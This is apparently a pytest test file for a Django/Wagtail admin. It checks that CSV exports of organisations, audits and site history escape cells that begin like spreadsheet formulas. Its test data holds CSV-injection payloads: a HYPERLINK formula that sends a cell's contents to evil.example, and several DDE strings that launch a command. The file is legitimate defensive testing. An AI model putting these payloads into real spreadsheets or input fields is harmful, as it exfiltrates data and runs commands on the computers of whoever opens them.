"""Spreadsheet exports a moderator downloads from the admin: a cell a user typed never reaches
the spreadsheet as a formula (CSV injection), in CSV as it already is not in XLSX."""

import csv
import io

import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group

from scenarios import services
from scenarios.models import Company
from scenarios.validators import make_uscc

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE_NAMES = [
    '=HYPERLINK("https://evil.example/?"&A1,"详情")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def moderator(db):
    user = get_user_model().objects.create_user("moderator", "mod@example.cn", "x")
    user.groups.add(Group.objects.get(name="Moderators"))
    return user


@pytest.fixture
def hostile_organisations(moderator):
    """Organisations named like formulas, each verified by the moderator (so audited)."""
    for n, name in enumerate(HOSTILE_NAMES):
        owner = get_user_model().objects.create_user(f"owner{n}", f"o{n}@example.cn", "x")
        company = Company.objects.create(
            name=name, kind=Company.Kind.ENTERPRISE, uscc=make_uscc("91320706", f"{n:08d}")
        )
        company.memberships.create(user=owner, role="owner")
        services.company_verify(company, moderator, approve=True)


def download_csv(client, url):
    response = client.get(url)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    body = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.reader(io.StringIO(body, newline="")))


@pytest.mark.parametrize(
    "url", ["/admin/bidding/audit/?export=csv", "/admin/bidding/organisations/?export=csv"]
)
def test_csv_exports_neutralise_cells_that_start_like_formulas(
    client, moderator, hostile_organisations, url
):
    client.force_login(moderator)
    rows = download_csv(client, url)
    cells = [cell for row in rows[1:] for cell in row]
    for name in HOSTILE_NAMES:
        assert f"'{name}" in cells, name
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]


def test_wagtails_own_csv_reports_neutralise_formulas_too(client, moderator, home_page, admin):
    home_page.title = "=cmd|' /C calc'!A0"
    home_page.save_revision(user=admin).publish(user=admin)
    client.force_login(admin)
    rows = download_csv(client, "/admin/reports/site-history/?export=csv")
    cells = [cell for row in rows[1:] for cell in row]
    assert "'=cmd|' /C calc'!A0" in cells
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
